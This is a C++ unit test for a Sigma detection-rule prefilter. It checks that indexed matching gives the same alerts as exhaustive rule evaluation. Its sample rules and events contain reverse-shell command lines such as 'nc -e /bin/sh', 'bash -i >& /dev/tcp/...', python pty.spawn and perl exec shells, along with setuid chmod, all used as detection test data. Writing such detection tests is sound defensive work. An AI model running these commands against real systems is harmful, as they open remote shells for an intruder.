// The literal prefilter (agent/host/sigma/prefilter.cc) never hides a match: SigmaRuleSet::match, which
// evaluates only the rules whose necessary literals occur, must give exactly what evaluating every rule of
// the event's log source gives. Checked on hand-written rules for each condition form and on events
// generated from every SigmaHQ linux and web rule (values in changed case, inside longer text, ...).
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "agent/host/sigma/prefilter.h"
#include "agent/host/sigma/sigma.h"
#include "tests/agent/host/sigma_test_util.h"
#include "tests/support/process.h"

namespace picket::host {
namespace {

using test::event;
using test::one_rule;

std::vector<std::string> brute_force(const SigmaRuleSet& set, const LogEvent& ev) {
  std::vector<std::string> out;
  for (const auto& r : set.rules()) {
    if (r.matches_logsource(ev) && r.matches(ev)) out.push_back(r.id);
  }
  return out;
}

std::vector<std::string> indexed(const SigmaRuleSet& set, const LogEvent& ev) {
  std::vector<std::string> out;
  set.match(ev, [&](const SigmaRule& r) { out.push_back(r.id); });
  return out;
}

std::string rule_text(const std::string& id, const std::string& detection) {
  return "title: t " + id + "\nid: " + id + "\nlogsource: {product: linux}\ndetection:\n" + detection;
}

TEST(SigmaPrefilter, NeedsFollowTheConditionForms) {
  auto need = [](const std::string& det) { return sigma::rule_need(one_rule(rule_text("x", det))); };
  // and: both sides are necessary.
  auto n = need("  a: {Image|endswith: /curl}\n  b: {CommandLine|contains: ' -o '}\n  condition: a and b\n");
  ASSERT_FALSE(n.always);
  EXPECT_EQ(n.clauses.size(), 2u);
  // or: one clause with the atoms of both sides.
  n = need("  a: {Image|endswith: /curl}\n  b: {CommandLine|contains: wget}\n  condition: a or b\n");
  ASSERT_FALSE(n.always);
  ASSERT_EQ(n.clauses.size(), 1u);
  EXPECT_EQ(n.clauses[0].size(), 2u);
  // Values are lowercased; a wildcard pattern keeps its longest literal run.
  n = need("  a: {Image: '*/BaSh*Xy'}\n  condition: a\n");
  ASSERT_FALSE(n.always);
  ASSERT_EQ(n.clauses.size(), 1u);
  EXPECT_EQ(n.clauses[0][0].literal, "/bash");
  // Nothing literal is necessary: not alone, regex, exists, an empty value.
  EXPECT_TRUE(need("  a: {Image: /x}\n  condition: not a\n").always);
  EXPECT_TRUE(need("  a: {Image|re: 'x+'}\n  condition: a\n").always);
  EXPECT_TRUE(need("  a: {Image|exists: true}\n  condition: a\n").always);
  EXPECT_TRUE(need("  a: {Image: ''}\n  condition: a\n").always);
  // A regex or-ed with a literal: always; and-ed: the literal's clause.
  EXPECT_TRUE(need("  a: {Image|re: 'x+'}\n  b: {User: root}\n  condition: a or b\n").always);
  n = need("  a: {Image|re: 'x+'}\n  b: {User: root}\n  condition: a and b\n");
  ASSERT_FALSE(n.always);
  ASSERT_EQ(n.clauses.size(), 1u);
  EXPECT_EQ(n.clauses[0][0].field, "User");
  // Keywords are atoms on the raw line.
  n = need("  k: [evil, bad]\n  condition: k\n");
  ASSERT_FALSE(n.always);
  EXPECT_EQ(n.clauses[0][0].field, "");
}

TEST(SigmaPrefilter, IndexedMatchEqualsEvaluatingEveryRule) {
  std::vector<SigmaRule> rules;
  for (const auto& [id, det] : std::vector<std::pair<std::string, std::string>>{
           {"and", "  a: {Image|endswith: /curl}\n  b: {CommandLine|contains: ' -o '}\n  condition: a and b\n"},
           {"or", "  a: {Image|endswith: /curl}\n  b: {CommandLine|contains: wget}\n  condition: a or b\n"},
           {"not", "  a: {Image|endswith: /curl}\n  f: {User: root}\n  condition: a and not f\n"},
           {"notonly", "  f: {User: root}\n  condition: not f\n"},
           {"all", "  a: {CommandLine|contains|all: [' -e ', /bin/sh]}\n  condition: a\n"},
           {"oneof", "  s1: {Image: /usr/bin/nc}\n  s2: {Image: /usr/bin/ncat}\n  condition: 1 of s*\n"},
           {"allof", "  s1: {Image|endswith: /nc}\n  s2: {CommandLine|contains: ' -e '}\n  condition: all of s*\n"},
           {"kw", "  k: ['/dev/tcp/', 'bash -i']\n  condition: k\n"},
           {"glob", "  a: {CommandLine: '*chmod*+s*'}\n  condition: a\n"},
           {"list", "  a:\n    - {Image|endswith: /python3, CommandLine|contains: pty.spawn}\n"
                    "    - {Image|endswith: /perl, CommandLine|contains: 'exec \"/bin/sh\"'}\n  condition: a\n"},
           {"cased", "  a: {CommandLine|contains|cased: SeCrEt}\n  condition: a\n"},
           {"b64", "  a: {CommandLine|base64offset|contains: 'curl '}\n  condition: a\n"},
           {"never", "  a: {Image|endswith: /x}\n  b: {Image|endswith: /y}\n  condition: a and b\n"},
       }) {
    rules.push_back(one_rule(rule_text(id, det)));
  }
  SigmaRuleSet set(std::move(rules));
  ASSERT_TRUE(set.prefilter_error().empty()) << set.prefilter_error();
  const std::vector<LogEvent> events = {
      event({{"Image", "/usr/bin/CURL"}, {"CommandLine", "curl -O x -o /tmp/a"}, {"User", "bob"}}),
      event({{"Image", "/usr/bin/curl"}, {"CommandLine", "curl x"}, {"User", "root"}}),
      event({{"Image", "/usr/bin/nc"}, {"CommandLine", "nc -e /bin/sh 1.2.3.4 4444"}}),
      event({{"Image", "/usr/bin/ncat"}, {"CommandLine", "ncat -l"}}),
      event({{"Image", "/usr/bin/python3"}, {"CommandLine", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"}}),
      event({{"Image", "/usr/bin/perl"}, {"CommandLine", "perl -e 'exec \"/bin/sh\";'"}}),
      event({{"CommandLine", "chmod u+s /tmp/x"}}),
      event({{"CommandLine", "echo secret"}}),
      event({{"CommandLine", "echo SeCrEt"}}),
      event({{"CommandLine", "echo Y3VybCBodHRwOi8v | base64 -d"}}),
      event({{"User", "alice"}}, "sh -c 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1'"),
      event({}, "nothing here"),
  };
  size_t matches = 0;
  for (const auto& ev : events) {
    const auto want = brute_force(set, ev);
    EXPECT_EQ(indexed(set, ev), want) << ev.raw();
    matches += want.size();
  }
  EXPECT_GE(matches, 14u);  // the events above do match: the comparison is not vacuous
}

// ---- events generated from the SigmaHQ rules ----

std::string toggle_case(const std::string& s) {
  std::string out = s;
  for (auto& c : out) {
    if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 32);
    else if (c >= 'A' && c <= 'Z') c = static_cast<char>(c + 32);
  }
  return out;
}

// A value that the Sigma value matches (toggled case when it is case-insensitive), or "" when we cannot
// make one (regex, cidr, numbers...).
std::string satisfying(const sigma::Value& v) {
  std::string lit;
  if (v.kind == sigma::Kind::kGlob) {
    for (int16_t c : v.glob) lit += c == -1 ? std::string("zz") : c == -2 ? std::string("q") : std::string(1, static_cast<char>(c));
  } else {
    lit = v.text;
  }
  if (!v.cased) lit = toggle_case(lit);
  switch (v.kind) {
    case sigma::Kind::kEquals:
    case sigma::Kind::kGlob: return lit;
    case sigma::Kind::kContains: return "Pre " + lit + " post";
    case sigma::Kind::kStartsWith: return lit + " tail";
    case sigma::Kind::kEndsWith: return "head " + lit;
    default: return "";
  }
}

void set_source(const SigmaRule& r, LogEvent& ev) {
  ev.set_product(r.logsource.product.empty() ? "linux" : r.logsource.product);
  if (!r.logsource.category.empty()) ev.set_category(r.logsource.category);
  if (!r.logsource.service.empty()) ev.add_service(r.logsource.service);
}

TEST(SigmaPrefilter, CorpusRulesGiveTheSameAlertsIndexedAndExhaustive) {
  const std::string corpus = picket::test::corpus_dir();
  if (corpus.empty()) {
    if (picket::test::in_ci()) FAIL() << "shared corpus missing under CI";
    GTEST_SKIP() << "shared corpus (../shared/corpus) not present";
  }
  SigmaLoad load = load_sigma_paths({corpus + "/sigma/sigma/rules/linux", corpus + "/sigma/sigma/rules/web"});
  SigmaRuleSet set(std::move(load.rules));
  ASSERT_TRUE(set.prefilter_error().empty()) << set.prefilter_error();
  // One event per group of every selection of every rule, with each field match satisfied by its first
  // value (or all values for |all); a second event uses the last value.
  size_t events = 0;
  size_t matches = 0;
  size_t rules_fired = 0;
  for (const auto& r : set.rules()) {
    bool fired = false;
    for (const auto& sel : r.selections) {
      for (const auto& group : sel.groups) {
        for (int pick = 0; pick < 2; ++pick) {
          LogEvent ev;
          ev.clear();
          set_source(r, ev);
          std::string raw = "generated";
          for (const auto& fm : group) {
            if (fm.values.empty()) continue;
            std::string value;
            if (fm.all) {
              for (const auto& alts : fm.values) value += " " + satisfying(alts.front()) + " ";
            } else {
              const auto& alts = pick == 0 ? fm.values.front() : fm.values.back();
              value = satisfying(alts.front());
            }
            if (fm.field.empty()) {
              raw += " " + value;
            } else {
              ev.set(fm.field, value);
              raw += " " + fm.field + "=" + value;
            }
          }
          ev.set_raw(raw);
          ev.parsed = true;
          const auto want = brute_force(set, ev);
          ASSERT_EQ(indexed(set, ev), want) << r.file << ": " << raw;
          ++events;
          matches += want.size();
          for (const auto& id : want) fired |= id == r.id;
        }
      }
    }
    rules_fired += fired ? 1 : 0;
  }
  std::printf("prefilter check: %zu events, %zu rule matches, %zu of %zu rules fired on their own events, "
              "%zu rules without a necessary literal\n",
              events, matches, rules_fired, set.rules().size(), set.unfiltered_count());
  EXPECT_GT(events, 500u);
  EXPECT_GT(rules_fired, set.rules().size() / 2);  // the events do exercise the rules
}

}  // namespace
}  // namespace picket::host
